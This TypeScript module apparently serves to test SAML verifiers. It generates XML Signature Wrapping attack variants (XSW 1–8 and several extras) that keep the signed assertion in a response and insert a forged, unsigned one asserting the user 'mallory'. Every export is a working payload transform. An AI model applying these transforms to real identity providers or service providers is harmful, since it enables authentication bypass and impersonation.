// Signature wrapping as the literature lists it (Somorovsky et al., "On Breaking SAML", 2012): the signed assertion stays in
// the message, whole, and another one stands where a careless reader looks.

const ASSERTION = /<saml:Assertion[\s\S]*<\/saml:Assertion>/
const SIGNATURE = /<ds:Signature[\s\S]*?<\/ds:Signature>/

/** Of the assertion. */
const withoutSignature = (xml: string): string => xml.replace(SIGNATURE, '')
const evilOf = (assertion: string): string =>
  withoutSignature(assertion)
    .replace(/ID="[^"]*"/, 'ID="_evil"')
    .replace(/(<saml:NameID[^>]*>)[^<]*/, '$1mallory')

const inAssertion =
  (wrap: (parts: { readonly original: string; readonly evil: string; readonly signature: string }) => string) =>
  (response: string): string => {
    const [original = ''] = ASSERTION.exec(response) ?? []
    const [signature = ''] = SIGNATURE.exec(original) ?? []
    return response.replace(ASSERTION, () => wrap({ original, evil: evilOf(original), signature }))
  }

const before = (evil: string, what: string): string =>
  evil.replace('</saml:Assertion>', () => `${what}</saml:Assertion>`)
const afterIssuer = (evil: string, what: string): string =>
  evil.replace('</saml:Issuer>', () => `</saml:Issuer>${what}`)
const inObject = (signature: string, what: string): string =>
  signature.replace('</ds:Signature>', () => `<ds:Object>${what}</ds:Object></ds:Signature>`)

/** The signature of the response goes to a response of another, which holds the signed one. */
const aroundResponse =
  (place: (signature: string, original: string) => string) =>
  (response: string): string => {
    const [signature = ''] = SIGNATURE.exec(response) ?? []
    const original = response.replace(signature, '')
    const evil = original.replace(/ID="[^"]*"/, 'ID="_evil-response"').replace(ASSERTION, evilOf)
    return evil.replace('</saml:Issuer>', () => `</saml:Issuer>${place(signature, original)}`)
  }

/** For responses that are signed themselves. */
export const responseWrappings: Readonly<Record<string, (response: string) => string>> = {
  'XSW 1: the response in an object of its signature': aroundResponse((signature, original) =>
    inObject(signature, original),
  ),
  'XSW 2: the response before its signature': aroundResponse((signature, original) => original + signature),
}

/** For responses with a signed assertion. */
export const assertionWrappings: Readonly<Record<string, (response: string) => string>> = {
  'XSW 3: before the signed one': inAssertion(({ original, evil }) => evil + original),
  'XSW 3 the other way round: after the signed one': inAssertion(({ original, evil }) => original + evil),
  'XSW 4: around the signed one': inAssertion(({ original, evil }) => before(evil, original)),
  'XSW 5: with its signature, the signed one at the end': inAssertion(
    ({ original, evil, signature }) => afterIssuer(evil, signature) + withoutSignature(original),
  ),
  'XSW 6: with its signature, the signed one in that': inAssertion(({ original, evil, signature }) =>
    afterIssuer(
      evil,
      signature.replace('</ds:Signature>', () => `${withoutSignature(original)}</ds:Signature>`),
    ),
  ),
  'XSW 7: in extensions': inAssertion(
    ({ original, evil }) => `<samlp:Extensions>${evil}</samlp:Extensions>${original}`,
  ),
  'XSW 7 the other way round: the signed one in extensions': inAssertion(
    ({ original, evil }) => `<samlp:Extensions>${original}</samlp:Extensions>${evil}`,
  ),
  'XSW 8: the signed one in an object of the signature': inAssertion(({ original, evil, signature }) =>
    afterIssuer(evil, inObject(signature, withoutSignature(original))),
  ),
  'with the same id': inAssertion(({ original, evil }) => {
    const [id = ''] = / ID="[^"]*"/.exec(original) ?? []
    return evil.replace(/ ID="[^"]*"/, id) + original
  }),
  'in a confirmation of the signed one': inAssertion(({ original, evil }) =>
    original.replace(
      /(<saml:SubjectConfirmationData[^>]*)\/>/,
      (_, data) => `${data}>${evil}</saml:SubjectConfirmationData>`,
    ),
  ),
}
